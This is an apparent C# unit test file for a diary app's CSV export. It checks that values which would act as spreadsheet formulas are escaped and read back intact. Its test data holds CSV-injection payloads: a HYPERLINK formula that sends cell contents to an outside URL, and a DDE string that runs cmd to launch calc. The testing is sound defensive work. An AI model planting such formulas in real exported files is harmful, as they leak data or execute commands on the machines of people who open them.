using System.Text;
using NodaTime;
using Vastus.Core.Diary;
using Vastus.Core.Diary.Files;
using Vastus.Core.Diary.Kinds;

namespace Vastus.Core.Tests.Diary;

/// <summary>What OWASP lists as beginnings of a formula (CSV Injection), on the way out and back.</summary>
public sealed class CsvFormulaTests
{
    private static readonly OffsetDateTime At = Moment.Parse("2026-03-01T22:10:00+01:00")!.Value;

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1;\"look\")", "\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1;\"\"look\"\")\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("'=1", "''=1")]
    [InlineData("''=1", "'''=1")]
    [InlineData("-5", "-5")]
    [InlineData("+1.5", "+1.5")]
    [InlineData("'quoted'", "'quoted'")]
    [InlineData("calf =", "calf =")]
    public void A_note_that_would_be_a_formula_is_text_in_a_spreadsheet_and_reads_back_as_it_was(string note, string cell)
    {
        var entry = new Entry(Guid.CreateVersion7(), At, new NoteOnly()) { Note = note };

        var file = Write(entry);

        Assert.EndsWith($",{cell}\n", file, StringComparison.Ordinal);
        Assert.Equal(entry, Read(file));
    }

    [Fact]
    public void A_name_and_a_level_are_defused_and_an_amount_below_zero_stays_a_number()
    {
        var entry = new Entry(Guid.CreateVersion7(), At, new Custom("=name", -5, "@unit") { Level = "+level" });

        var file = Write(entry);

        Assert.Contains(",custom,'=name,-5,'@unit,,'+level,", file, StringComparison.Ordinal);
        Assert.Equal(entry, Read(file));
    }

    [Fact]
    public void An_apostrophe_is_no_part_of_a_number()
    {
        using var bytes = new MemoryStream(Encoding.UTF8.GetBytes("at,kind,name,amount\n2026-03-01T22:10:00+01:00,custom,x,'-5\n"));

        Assert.Equal("amount", DiaryFile.Entries(bytes, null).Single().Problems.Single().Field);
    }

    private static string Write(Entry entry)
    {
        using var text = new StringWriter();
        DiaryFile.WriteHeader(text, DiaryFormat.Csv);
        DiaryFile.Write(text, DiaryFormat.Csv, entry);
        return text.ToString();
    }

    private static Entry Read(string file)
    {
        using var bytes = new MemoryStream(Encoding.UTF8.GetBytes(file));
        return DiaryFile.Entries(bytes, null).Single().Entry!;
    }
}
